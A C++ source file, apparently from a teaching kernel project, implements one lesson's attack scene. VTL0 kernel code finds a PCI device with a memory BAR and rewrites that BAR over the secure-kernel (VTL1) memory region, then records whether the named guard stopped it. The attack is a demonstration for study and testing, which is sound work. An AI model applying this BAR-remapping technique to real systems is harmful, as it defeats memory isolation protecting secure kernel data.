// SPDX-License-Identifier: MIT
// Row 11: VTL0's kernel moves a device's memory over VTL1's.
//
// Where a device answers is written in its base address register. Over VTL1's memory, the device
// and not RAM would answer VTL1's reads.  [PCI 6.2.5.1] [WI7 ch.9]  Guard: io-port-lock.
// Lesson: 10.
#include "abi/memory_layout.h"
#include "kernel/scenes/attacks/attack.h"
#include "rt/check.h"
#include "rt/instructions.h"
#include "x86/pci.h"

namespace nt::attacks {
namespace {

constexpr std::uint8_t devices_on_bus = 32;

std::uint32_t read(x86::PciAddress address) {
    rt::out32(x86::pci_address_port, address.raw);
    return rt::in32(x86::pci_data_port);
}

x86::PciAddress bar_of(std::uint8_t device) {
    return x86::PciAddress::of(device, static_cast<std::uint8_t>(x86::PciRegister::FirstBar));
}

/// The first device that has memory of its own.
std::uint8_t find_device() {
    for (std::uint8_t device = 0; device < devices_on_bus; ++device) {
        const auto bar = x86::PciBar::from(read(bar_of(device)));
        if (bar.address() != 0 && bar.raw != x86::pci_size_question &&
            !bar.get(x86::PciBar::is_io)) {
            return device;
        }
    }
    rt::panic("This machine has no PCI device with memory of its own.");
}

} // namespace

void move_bar(Stage&) {
    const x86::PciAddress bar = bar_of(find_device());
    constexpr auto target = static_cast<std::uint32_t>(abi::secure_kernel_region.base);

    begin(target);
    attempt([bar] {
        rt::out32(x86::pci_address_port, bar.raw);
        rt::out32(x86::pci_data_port, target);
    });
    loot()[0] = x86::PciBar::from(read(bar)).address();
}

} // namespace nt::attacks
